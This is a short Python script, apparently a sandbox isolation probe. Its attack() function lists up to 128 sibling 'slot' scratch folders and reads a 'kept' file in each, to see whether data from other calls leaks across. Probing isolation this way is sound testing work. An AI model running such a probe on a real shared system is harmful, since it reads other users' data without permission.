"""Looks into the scratch folders of all other slots for what other calls write there."""

import contextlib
import os

STATUS, RESULT, NEEDS = "ok", [], "own uid"


def attack():
    own, got = os.getcwd(), []
    root = os.path.dirname(own)
    for slot in range(128):
        folder = f"{root}/{slot}"
        if folder != own:
            with contextlib.suppress(OSError):
                got.append(f"{folder}: {os.listdir(folder)}")
            with contextlib.suppress(OSError), open(f"{folder}/kept") as file:
                got.append(f"{folder}/kept: {file.read()}")
    return got
